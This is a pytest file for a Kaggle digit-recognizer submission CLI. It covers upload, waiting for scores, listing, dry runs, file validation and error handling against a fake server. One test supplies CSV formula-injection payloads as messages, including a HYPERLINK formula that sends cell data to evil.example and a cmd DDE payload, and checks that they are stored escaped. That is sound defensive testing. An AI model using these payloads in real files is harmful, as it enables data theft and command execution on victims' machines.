"""`submit`: local score, upload (+ --wait), --list and --dry-run, with the real `kaggle` client against
the fake Kaggle server."""

from __future__ import annotations

import pytest

from kaggle_digits.blend import submission
from kaggle_digits.data import dataset as data
from kaggle_digits.kaggle.api import RULES_URL
from tests.conftest import assert_one_line_error, common, plant_kaggle_json


def test_upload_wait_then_list(run_cli, fake_kaggle, folders):
    d, subs, path = folders
    fake_kaggle.set_solution(d / "solution.csv")
    fake_kaggle.polls_until_scored = 2
    before = data.sha256(path)

    # Pending at the first look, scored at the second: one wait of the shortest poll allowed.
    result = run_cli("submit", path, "-m", "blend of three", "--wait", "--poll", "5", *common(folders))
    assert result.code == 0, result.err
    assert "Kaggle public score: 0.98600" in result.out
    assert "local leaderboard 0.98600" in result.out
    assert "waiting for Kaggle to score" in result.out and "pending" in result.out
    assert fake_kaggle.key not in result.out + result.err

    # What the client really sent: start upload, PUT the bytes, create the submission with the message.
    (start,) = fake_kaggle.calls("StartSubmissionUpload")
    assert start.body["competitionName"] == "digit-recognizer" and start.body["fileName"] == path.name
    assert start.authorized and start.body["contentLength"] == path.stat().st_size
    (put,) = fake_kaggle.calls("upload")
    assert put.body == path.read_bytes()
    (create,) = fake_kaggle.calls("CreateSubmission")
    assert create.body["submissionDescription"] == "blend of three"
    assert data.sha256(path) == before, "the submitted file is never modified"

    (row,) = submission.read_history(subs / "history.csv")
    assert row["file"] == str(path) and row["message"] == "blend of three"
    assert (row["cv_accuracy"], row["local_score"], row["public_score"]) == ("0.98765", "0.98600", "0.98600")

    listed = run_cli("submit", "--list")
    assert listed.code == 0, listed.err
    line = next(line for line in listed.out.splitlines() if "blend of three" in line)
    assert "complete" in line and "0.98600" in line and path.name in line
    assert "best public score 0.98600" in listed.out


def test_upload_without_wait_and_empty_list(run_cli, fake_kaggle, folders):
    _, subs, path = folders
    empty = run_cli("submit", "--list")
    assert empty.code == 0 and "no submissions" in empty.out
    result = run_cli("submit", path, "-m", "quick look", *common(folders))
    assert result.code == 0, result.err
    assert "submitted as Kaggle submission" in result.out and "--list" in result.out
    (row,) = submission.read_history(subs / "history.csv")
    assert row["public_score"] == "" and row["message"] == "quick look"


def test_history_keeps_a_formula_as_text_and_one_line_per_submission(run_cli, fake_kaggle, folders):
    _, subs, path = folders
    messages = ['=HYPERLINK("http://evil.example/?x="&A1,"see")', "+cmd|' /C calc'!A0\nline2", "-1+2", "@SUM(1)"]
    messages += ["\tx", "\r=1+1", "a\r\nb", "plain text"]
    fake_kaggle.daily_limit = len(messages)
    for message in messages:
        result = run_cli("submit", path, f"--message={message}", *common(folders))  # `=`: "-1+2" is no option
        assert result.code == 0, result.err
    assert [c.body["submissionDescription"] for c in fake_kaggle.calls("CreateSubmission")] == messages
    stored = ["'" + messages[0], "'+cmd|' /C calc'!A0 line2", "'-1+2", "'@SUM(1)", "'\tx", " =1+1", "a b", "plain text"]
    assert [row["message"] for row in submission.read_history(subs / "history.csv")] == stored
    # One line per submission, so line-based tools see one row each too.
    assert len((subs / "history.csv").read_text(encoding="utf-8").splitlines()) == 1 + len(messages)


def test_dry_run_sends_nothing(run_cli, fake_kaggle, folders):
    _, subs, path = folders
    result = run_cli("submit", path, "-m", "try", "--dry-run", *common(folders))
    assert result.code == 0, result.err
    assert "nothing was sent" in result.out and "kaggle.json" in result.out
    assert fake_kaggle.requests == []
    assert not (subs / "history.csv").exists()


def test_a_byte_order_mark_before_the_header_is_accepted(run_cli, folders):
    """Kaggle's own parser accepts one (spreadsheet programs write it); it is invisible on a terminal."""
    _, _, path = folders
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert len(submission.read_submission(path, n_test=500)) == 500
    result = run_cli("submit", path, "-m", "try", "--dry-run", *common(folders))
    assert result.code == 0, result.err


@pytest.mark.parametrize(
    "mutate, words",
    [
        (lambda lines: lines[:-1], ["499 rows", "expected one per test image (500)"]),
        (lambda lines: [*lines[:3], "3,10", *lines[4:]], ["line 4", "column Label", "'10'"]),
        (lambda lines: [*lines[:5], lines[2], *lines[6:]], ["line 6", "already given on line 3"]),
        (lambda lines: ["ImageId,label", *lines[1:]], ["line 1", "header"]),
    ],
    ids=["499-rows", "label-10", "repeated-id", "header"],
)
def test_invalid_file_rejected_before_upload(run_cli, fake_kaggle, folders, mutate, words):
    _, subs, path = folders
    bad = path.with_name("bad.csv")
    bad.write_text("\n".join(mutate(path.read_text().splitlines())) + "\n")
    result = run_cli("submit", bad, "-m", "bad", *common(folders))
    assert_one_line_error(result, str(bad), *words)
    assert fake_kaggle.requests == [], "nothing is sent for an invalid file"
    assert not (subs / "history.csv").exists()


def _wrong_key(fake):
    plant_kaggle_json(fake.username, "kd-wrong-key-0c0c0c")


@pytest.mark.parametrize(
    "breakage, words",
    [
        (_wrong_key, ["401", "kaggle.json"]),
        (lambda fake: fake.fail(403, "Rules not accepted", "StartSubmissionUpload"), ["403", RULES_URL]),
        (lambda fake: fake.fail(500, "storage unavailable", "upload"), ["did not accept the upload"]),
        (lambda fake: fake.stop(), ["cannot reach Kaggle"]),
    ],
    ids=["401", "403", "upload-failed", "unreachable"],
)
def test_upload_failures_are_one_line(run_cli, fake_kaggle, folders, breakage, words):
    _, subs, path = folders
    before = data.sha256(path)
    breakage(fake_kaggle)
    result = run_cli("submit", path, "-m", "x", *common(folders))
    assert_one_line_error(result, *words)
    assert "kd-wrong-key-0c0c0c" not in result.out + result.err and fake_kaggle.key not in result.err
    assert data.sha256(path) == before
    assert fake_kaggle.calls("CreateSubmission") == []
    assert not (subs / "history.csv").exists()


def test_kaggle_error_status_after_upload(run_cli, fake_kaggle, folders):
    _, subs, path = folders
    fake_kaggle.scoring_error = "Submission file has the wrong number of rows"
    result = run_cli("submit", path, "-m", "doomed", "--wait", *common(folders))
    assert_one_line_error(result, "could not score", "wrong number of rows")
    (row,) = submission.read_history(subs / "history.csv")
    assert row["message"] == "doomed" and row["public_score"] == "", "the upload is recorded all the same"


def test_wait_timeout(run_cli, fake_kaggle, folders):
    _, _, path = folders
    fake_kaggle.polls_until_scored = 10**6
    result = run_cli("submit", path, "-m", "slow", "--wait", "--timeout", "0", *common(folders))
    assert_one_line_error(result, "not scored", "--list")


@pytest.mark.parametrize(
    "option, words",
    [
        (["--poll", "-1"], ["--poll -1", "5 or more"]),
        (["--poll", "0"], ["--poll 0", "5 or more"]),
        (["--poll", "nan"], ["--poll nan"]),
        (["--poll", "inf"], ["--poll inf"]),
        (["--timeout", "-5"], ["--timeout -5", "0 or more"]),
        (["--timeout", "nan"], ["--timeout nan"]),
    ],
    ids=["poll-negative", "poll-zero", "poll-nan", "poll-inf", "timeout-negative", "timeout-nan"],
)
def test_wait_options_checked_before_any_upload(run_cli, fake_kaggle, folders, option, words):
    _, subs, path = folders
    result = run_cli("submit", path, "-m", "x", "--wait", *option, *common(folders))
    assert_one_line_error(result, *words)
    assert fake_kaggle.requests == [], "a bad option must not cost one of the day's submissions"
    assert not (subs / "history.csv").exists()
    assert_one_line_error(run_cli("submit", "--list", *option), *words)


def test_wait_never_polls_faster_than_the_floor():
    from kaggle_digits.kaggle import api as kaggle_api

    for poll, timeout in ((0.0, 10.0), (kaggle_api.MIN_POLL_SECONDS - 0.5, 10.0), (10.0, -1.0)):
        with pytest.raises(ValueError, match="poll must be"):
            kaggle_api.wait_for_score("1", timeout=timeout, poll=poll)


def test_huge_csv_field_is_one_line(run_cli, fake_kaggle, folders):
    _, subs, path = folders
    lines = path.read_text().splitlines()
    lines[3] = "3," + "7" * 200_000  # over the csv module's 128 KB field limit
    huge = path.with_name("huge.csv")
    huge.write_text("\n".join(lines) + "\n")
    for extra in (["--dry-run"], []):
        result = run_cli("submit", huge, "-m", "x", *extra, *common(folders))
        assert_one_line_error(result, str(huge), "line 4", "131,072")
    assert_one_line_error(run_cli("submit", huge, "--local", *common(folders)), "line 4")
    assert fake_kaggle.requests == []
    assert not (subs / "history.csv").exists()


def test_local_score(run_cli, folders, tmp_path):
    d, _, path = folders
    result = run_cli("submit", path, "--local", "--data-dir", d)
    assert result.code == 0, result.err
    assert "0.98600 (493/500 correct; 95% CI" in result.out
    (d / "solution.csv").unlink()
    missing = run_cli("submit", path, "--local", "--data-dir", d)
    assert_one_line_error(missing, "solution.csv not found")


def test_usage_mistakes(run_cli, folders, tmp_path):
    _, _, path = folders
    assert_one_line_error(run_cli("submit", path, *common(folders)), '-m "message" is required')
    assert_one_line_error(run_cli("submit", "-m", "x"), "FILE")
    assert_one_line_error(run_cli("submit", path, "-m", "x", *common(folders)), "no Kaggle credentials")
    assert_one_line_error(run_cli("submit", tmp_path / "nope.csv", "-m", "x"), "nope.csv: file not found")


def test_expected_rows_counts_test_csv(small_data, tmp_path):
    from kaggle_digits.blend.submission import expected_rows

    assert expected_rows(small_data / "test.csv") == 500
    assert expected_rows(tmp_path / "missing.csv") == data.N_TEST
    unterminated = tmp_path / "t.csv"
    unterminated.write_bytes(b"pixel0\n1\n2")
    assert expected_rows(unterminated) == 2
